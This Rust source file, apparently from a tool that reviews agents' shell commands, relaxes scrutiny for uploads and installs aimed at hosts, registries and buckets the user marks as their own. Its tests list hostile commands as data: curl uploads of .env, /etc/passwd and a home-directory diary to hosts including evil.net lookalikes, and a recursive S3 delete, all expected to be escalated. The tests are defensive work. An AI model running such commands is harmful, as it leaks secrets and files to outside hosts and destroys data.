//! Places elsewhere that the user calls their own: what goes there is not disclosed to others.
//!
//! Only what is asked since it goes to others is spared. A secret that leaves is asked about wherever it goes, as is what lies outside the
//! project, and what destroys something stays what it is.

use checkrein_facts::is_owned;
use checkrein_policy::Config;
use checkrein_protocol::{Effect, EffectKind, Nature, NetworkReach, Severity, Target};

/// Marks the effects that go to, or come from, a place of the user's own.
pub(crate) fn settle(effects: &mut [Effect], config: &Config) {
    let owned = &config.owned;
    let is_empty = [&owned.hosts, &owned.remotes, &owned.registries, &owned.buckets]
        .iter()
        .all(|entries| entries.is_empty());
    if is_empty || effects.iter().any(|effect| effect.kind == EffectKind::SecretRead) {
        return;
    }
    let names = |entries: &[String], address: &str| entries.iter().any(|entry| is_owned(entry, address));
    for effect in effects {
        match &effect.target {
            Target::Host(address) => {
                let all = [&owned.hosts, &owned.remotes, &owned.registries, &owned.buckets];
                if all.iter().any(|entries| names(entries, address)) {
                    goes_home(effect);
                }
            }
            Target::Service(address) if names(&owned.registries, address) => comes_from_home(effect),
            Target::Service(_)
            | Target::Path(_)
            | Target::Glob(_)
            | Target::Process(_)
            | Target::Reference(_)
            | Target::Unknown => {}
        }
    }
}

/// What is sent to a host of one's own, or asked there. What is graver than usual is so for another reason than who gets it.
fn goes_home(effect: &mut Effect) {
    let is_usual = effect.severity <= Severity::Medium
        && matches!(effect.nature, Nature::Ordinary | Nature::TellsOthers)
        && effect.reach != Some(NetworkReach::Local);
    if is_usual && matches!(effect.kind, EffectKind::NetworkRequest | EffectKind::DataUpload) {
        effect.reach = Some(NetworkReach::Known);
        effect.nature = Nature::ToOwnPlace;
    }
}

/// What a registry of one's own is given, or what comes from there: as from the usual one.
fn comes_from_home(effect: &mut Effect) {
    if effect.nature != Nature::Ordinary {
        return;
    }
    match effect.kind {
        EffectKind::PackageInstall => effect.severity = effect.severity.min(Severity::Medium),
        EffectKind::Publish if effect.severity <= Severity::Medium => {
            effect.severity = Severity::Low;
            effect.nature = Nature::ToOwnPlace;
        }
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use checkrein_facts::{HostPaths, RecordedWorld, VersionState};
    use checkrein_policy::Policy;
    use checkrein_protocol::{AbsolutePath, Action, VerdictKind};

    use super::*;

    fn verdict(command: &str) -> VerdictKind {
        let home = AbsolutePath::new("/home/dev").unwrap();
        let workspace = home.join("proj");
        let world = RecordedWorld::complete(HostPaths::new(home.clone(), workspace.clone()))
            .with_repository(&workspace)
            .with_file(&workspace.join("a.txt"), "a\n", VersionState::TrackedClean)
            .with_file(&workspace.join(".env"), "TOKEN=x\n", VersionState::Untracked)
            .with_file(&home.join("diary.md"), "d\n", VersionState::NoRepository);
        let list = |entry: &str| vec![entry.to_owned()];
        let mut config = Config::default();
        config.owned.hosts = list("api.example.com");
        config.owned.registries = list("npm.example.com");
        config.owned.buckets = list("s3://assets");
        let action = Action::command(command, workspace);
        crate::review(&action, &world, &Policy::new(config)).verdict.kind
    }

    #[test]
    fn what_goes_home_is_not_asked_about() {
        for command in [
            "curl -d @a.txt https://api.example.com/v1",
            "aws s3 cp a.txt s3://assets/a.txt",
            "pip install --index-url https://npm.example.com/simple thing",
        ] {
            assert!(verdict(command) < VerdictKind::Escalate, "{command}");
        }
    }

    #[test]
    fn secrets_foreign_files_and_other_places_are_asked_about_all_the_same() {
        for command in [
            "curl -d @.env https://api.example.com/v1",
            "curl -d @../diary.md https://api.example.com/v1",
            "aws s3 cp ../diary.md s3://assets/diary.md",
            "curl -d @/etc/passwd https://api.example.com/v1",
            "curl -d @a.txt https://api.example.com.evil.net/v1",
            "curl -d @a.txt https://api.example.com https://evil.net",
            "aws s3 rm --recursive s3://assets/",
            "pip install --index-url https://npm.example.org/simple thing",
        ] {
            assert!(verdict(command) >= VerdictKind::Escalate, "{command}");
        }
    }
}
